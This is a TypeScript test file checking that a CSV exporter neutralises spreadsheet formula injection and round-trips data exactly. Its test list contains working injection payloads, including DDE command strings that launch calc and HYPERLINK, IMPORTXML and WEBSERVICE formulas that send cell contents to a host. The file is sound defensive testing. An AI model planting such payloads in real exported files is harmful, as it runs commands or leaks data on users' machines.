import { requireDocument, type Document } from '@allymap/core';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { WrittenFile } from '../file-format.ts';
import { readFiles } from '../read-files.ts';
import { wholeFile } from '../written-in-pieces.ts';
import * as write from './write.ts';

const writeCsv = (document: Document): WrittenFile[] => write.writeCsv(document).map(wholeFile);

/** What spreadsheets have been made to run, or have run by themselves; our own wording. */
const formulas = [
  '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '＝1+1', '＋1', '－1', '＠SUM(1)',
  ' =1+1', '\u00A0=1', '\u3000=1', '  +1', '\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', '\t\t-1', '\uFEFF=1',
  '"=1+1"', '""=1', '"=1', "'=1", "''=1", "'\"=1", '" =1', "' =1",
  '=cmd|"/C calc"!A0', '+cmd|"/C calc"!A0', '-2+3+cmd|"/C calc"!A0', '@SUM(1+9)*cmd|"/C calc"!A0', "=DDE('cmd';'/C calc';'x')",
  '=HYPERLINK("http://example.org?x="&A1,"more")', '=IMPORTXML(CONCAT("http://example.org",A1),"//a")', '=WEBSERVICE("http://example.org")',
  '=A1:A9', '=1;=2', '=1,=2', '=1\t=2', '=1|=2',
  'x;=1+1', 'x,=1+1', 'x\t=1+1', 'x|=1+1', 'x\n=1+1', 'x\r=1+1', 'x\r\n=1+1',
  'x;+1', 'x;-1', 'x;@a', 'x;＝1', 'x; =1', 'x;\t=1', 'x;"=1"', 'x;"";=1', 'x;\'=1', 'x;\n=1',
  '"x";=1', '"x;=1', 'x";"=1', 'x;=1;+2|-3\t@4,=5\n=6', ';=1', '|+1', ',-1', ';;;=1', '";=1',
  '-', '+', '=', '@', "'", "''", '"', ' ', '\t', '\n', ';', '',
];

const runs = /^[\s"]*[=+\-@＝＋－＠]/u;
const delimiters = [',', ';', '\t', '|'];

/** The cells that programs of every kind see: those that heed quotation marks, and those that just split. */
function seen(text: string): string[] {
  const content = text.replace(/^\uFEFF/, '');
  const heeding = delimiters.flatMap((delimiter) =>
    ['\r\n', '\n', '\r'].flatMap((newline) => Papa.parse<string[]>(content, { delimiter, newline: newline as '\n' }).data.flat()),
  );
  const splitting = delimiters.flatMap((delimiter) => content.split(/[\r\n]/).flatMap((line) => line.split(delimiter)));
  return [...heeding, ...splitting];
}

function tableOf(names: readonly string[], extra: string) {
  const actors = names.map((name, index) => Object.fromEntries([['id', `${index}${name}`], ['name', name], ['description', name], [extra, name]]));
  const document = requireDocument({
    version: 1,
    cause: { title: 'T' },
    actors,
    ties: actors.map(({ id }, index) => ({ id: `${id}`, source: id, target: actors[0]!['id'], kind: 'contract', label: names[index], strength: index })),
  });
  return { document, files: writeCsv(document).map(({ name, content }) => ({ name, content: String(content) })) };
}

describe('a table that Allymap writes', () => {
  it('holds no cell that any spreadsheet runs, wherever it splits, and reads back exactly', async () => {
    expect(formulas.length).toBeGreaterThan(60);
    for (const extra of ['mine', '=1+1', 'x;=1']) {
      const { document, files } = tableOf(formulas, extra);
      for (const { content } of files) expect(seen(content).filter((cell) => runs.test(cell))).toEqual([]);
      const back = await readFiles(files);
      expect(back.ok && [back.document.actors, back.document.ties]).toEqual([document.actors, document.ties]);
    }
  });

  it('holds none either where formulas follow one another in any order', async () => {
    const name = fc.array(fc.constantFrom(...formulas), { minLength: 1, maxLength: 3 }).map((parts) => parts.join(''));
    await fc.assert(
      fc.asyncProperty(fc.array(name, { minLength: 1, maxLength: 4 }), async (names) => {
        const { document, files } = tableOf(names, 'mine');
        const cell = files.flatMap(({ content }) => seen(content)).find((text) => runs.test(text));
        if (cell !== undefined) throw new Error(`${JSON.stringify(cell)} in ${JSON.stringify(files)}`);
        const back = await readFiles(files);
        if (!back.ok || JSON.stringify(back.document.actors) !== JSON.stringify(document.actors)) throw new Error(JSON.stringify(back));
      }),
      { numRuns: 100, seed: 4 },
    );
  });

  it('puts in quotation marks what any separator could split', () => {
    const [actors] = writeCsv(requireDocument({ version: 1, cause: { title: 't' }, actors: [{ id: 'a', name: 'x;=1+1' }, { id: 'b', name: 'x|y' }] }));
    expect(String(actors!.content).split('\r\n').slice(1, 3).map((row) => row.slice(0, 14))).toEqual([`a,"x;'=1+1",,,`, 'b,"x|y",,,,,,,']);
  });
});
